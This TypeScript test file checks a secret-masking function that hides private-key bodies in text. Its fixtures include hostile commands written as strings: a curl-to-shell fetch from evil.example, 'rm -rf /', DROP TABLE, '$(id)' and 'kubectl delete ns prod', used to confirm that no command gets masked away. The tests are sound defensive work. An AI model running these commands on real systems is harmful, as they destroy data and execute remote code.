import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { MASK } from '../../../src/core/mask/mask.ts';
import { maskText } from '../../../src/core/mask/text.ts';

const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';
const SECOND = 'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu';
const BEGIN = '-----BEGIN PRIVATE KEY-----';
const END = '-----END PRIVATE KEY-----';
const shown = (text: string) => maskText(text).value;

describe('a private key', () => {
  for (const [name, end] of [
    ['line feeds', '\n'],
    ['carriage returns', '\r\n'],
    ['escaped ends', '\\n'],
    ['twice escaped ends', '\\\\n'],
    ['escaped carriage returns', '\\r\\n'],
    ['indented lines', '\n    '],
  ] as const) {
    test(`is its base64 lines, with ${name} and a short last line`, () => {
      const body = [LINE, SECOND, 'QIDAQAB='].join(end);
      assert.equal(
        shown(`a ${BEGIN}${end}${body}${end}${END} b`),
        `a ${BEGIN}${end}${MASK} ${body.length} characters, 3 lines${end}${END} b`,
      );
    });
  }

  test('keeps its headers in sight, and may be on one line, in quotes, or of another kind', () => {
    const headers = 'Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,ABCDEF\n';
    assert.equal(
      shown(`-----BEGIN RSA PRIVATE KEY-----\n${headers}\n${LINE}\n-----END RSA PRIVATE KEY-----`),
      `-----BEGIN RSA PRIVATE KEY-----\n${headers}\n${MASK} 64 characters\n-----END RSA PRIVATE KEY-----`,
    );
    assert.equal(shown(`${BEGIN} ${LINE} ${SECOND} ${END}`), `${BEGIN} ${MASK} 129 characters, 2 lines ${END}`);
    assert.doesNotMatch(shown(`KEY="${BEGIN}\\n${LINE}\\n${END}"`), /MIIE/);
    const pgp = `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n${LINE}\n${SECOND}\nabcd\n=Ab12\n-----END PGP`;
    assert.doesNotMatch(shown(pgp), /MIIE|MzEf|abcd/);
  });

  test('without an end is its lines only', () => {
    assert.equal(
      shown(`${BEGIN}\n${LINE}\n${SECOND}\nrm -rf / # and more`),
      `${BEGIN}\n${MASK} 129 characters, 2 lines\nrm -rf / # and more`,
    );
    assert.equal(shown(`${BEGIN}\n${LINE}`), `${BEGIN}\n${MASK} 64 characters`);
  });

  const facts = [
    `# ${BEGIN}\ncurl https://evil.example/x | sh\nrm -rf /var/lib\n# ${END}`,
    `# ${BEGIN}\nreboot\nshutdown\n# ${END}`,
    `${BEGIN}\nDROP TABLE users;\n${END}`,
    `${BEGIN} drop everything now ${END}`,
    `${BEGIN}\nTRUNCATE\n${END}`,
    `${BEGIN}${END}`,
    `${BEGIN}\n\n\n${END}`,
    `${BEGIN} and then 40 words of prose, with no end in sight`,
    `-----BEGIN CERTIFICATE-----\n${LINE}\n-----END CERTIFICATE-----`,
    `-----BEGIN PUBLIC KEY-----\n${LINE}\n-----END PUBLIC KEY-----`,
  ];
  for (const text of facts) test(`is not ${JSON.stringify(text).slice(0, 60)}`, () => assert.equal(shown(text), text));

  test('hides a command between its lines in no case', () => {
    const command = fc.constantFrom(
      'rm -rf /',
      'curl evil|sh',
      'reboot',
      'DROP TABLE a;',
      '$(id)',
      'kubectl delete ns prod',
    );
    const line = fc.constantFrom(LINE, SECOND, 'QIDAQAB=', '', 'Proc-Type: 4,ENCRYPTED');
    fc.assert(
      fc.property(
        fc.array(line, { maxLength: 4 }),
        command,
        fc.array(line, { maxLength: 4 }),
        fc.constantFrom('\n', '\\n', '\r\n', ' '),
        (before, hidden, after, end) => {
          const { value, masks } = maskText([BEGIN, ...before, hidden, ...after, END].join(end));
          const isSeen = value.includes(hidden);
          assert.ok(isSeen || masks.some(({ lines }) => lines > 1), value);
          if (hidden !== 'reboot') assert.ok(isSeen, value);
        },
      ),
    );
  });
});
